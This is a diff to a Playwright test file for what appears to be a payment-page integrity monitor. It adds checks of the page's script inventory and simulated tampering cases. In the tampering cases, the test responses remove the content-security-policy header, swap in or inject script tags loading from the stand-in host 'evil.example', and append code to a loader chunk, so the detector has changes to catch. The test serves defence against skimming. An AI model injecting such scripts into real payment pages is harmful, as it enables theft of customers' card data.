@@ -1,5 +1,30 @@
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
 import { expect, test } from "@playwright/test";
+import {
+  lastingName,
+  modules,
+  purposeOf,
+  purposes,
+  readInventory,
+} from "@/lib/pay-pages/inventory";
+import { withInventory } from "@/scripts/pay-pages/table";
+import { root } from "@/scripts/setup/command";
 import { type Answered, probe } from "./_support/altered";
+
+test("knows what every part of a pay page is for, and names none that is gone", () => {
+  const parts = Object.values(readInventory(root)).flatMap((made) => made.parts);
+  expect(parts.filter((part) => purposeOf(part) === undefined)).toEqual([]);
+  const named = parts.filter(({ modules: own }) => own === undefined).map(lastingName);
+  expect([...new Set(named)].toSorted()).toEqual(Object.keys(purposes).toSorted());
+  const held = parts.flatMap(({ modules: own = [] }) => own);
+  expect([...new Set(held)].toSorted()).toEqual(Object.keys(modules).toSorted());
+});
+
+test("is the inventory that merchants and their auditors read: `npm run generate` writes it", () => {
+  const page = readFileSync(join(root, "docs/saq-a.md"), "utf8");
+  expect(withInventory(page, readInventory(root))).toBe(page);
+});
 
 const changesIn = (output: string): string[] =>
   output
@@ -24,7 +49,16 @@ test("finds a script that was put into a page, a policy that is gone and a scrip
     if (path.startsWith("/pay/")) {
       return { ...answered, headers: { ...headers, "content-security-policy": undefined } };
     }
-    return path.startsWith("/assets/customer-") && path.endsWith(".js")
+    if (path.startsWith("/l/")) {
+      const [name] = /\/_next\/static\/chunks\/[^"\\]+\.js/.exec(body) ?? [""];
+      return { ...answered, body: body.replaceAll(name, "https://evil.example/x.js") };
+    }
+    if (path.startsWith("/setup/")) {
+      const told =
+        '<script>self.__next_f.push([1,"0:[\\"$\\",\\"script\\",null,{\\"src\\":\\"https://evil.example/y.js\\"}]\\n"])</script>';
+      return { ...answered, body: body.replace("</body>", `${told}</body>`) };
+    }
+    return path.startsWith("/_next/static/chunks/turbopack-")
       ? { ...answered, body: `${body};take()` }
       : answered;
   };
@@ -35,10 +69,12 @@ test("finds a script that was put into a page, a policy that is gone and a scrip
     1,
   );
   expect(changes).toContain("removed: header content-security-policy");
+  expect(changes).toContain("added: script https://evil.example/x.js");
+  // Named in the data of the page, from which the framework loads it.
+  expect(changes).toContain("added: script https://evil.example/y.js");
   // Six documents load it.
-  expect(
-    changes.filter((change) => change.startsWith("changed: script /assets/customer-")),
-  ).toHaveLength(6);
+  const loader = "changed: script /_next/static/chunks/turbopack-";
+  expect(changes.filter((change) => change.startsWith(loader))).toHaveLength(6);
   expect([...seen]).toEqual(expect.arrayContaining(["c", "l", "pay", "setup", "i", "t", "bank"]));
 });
 
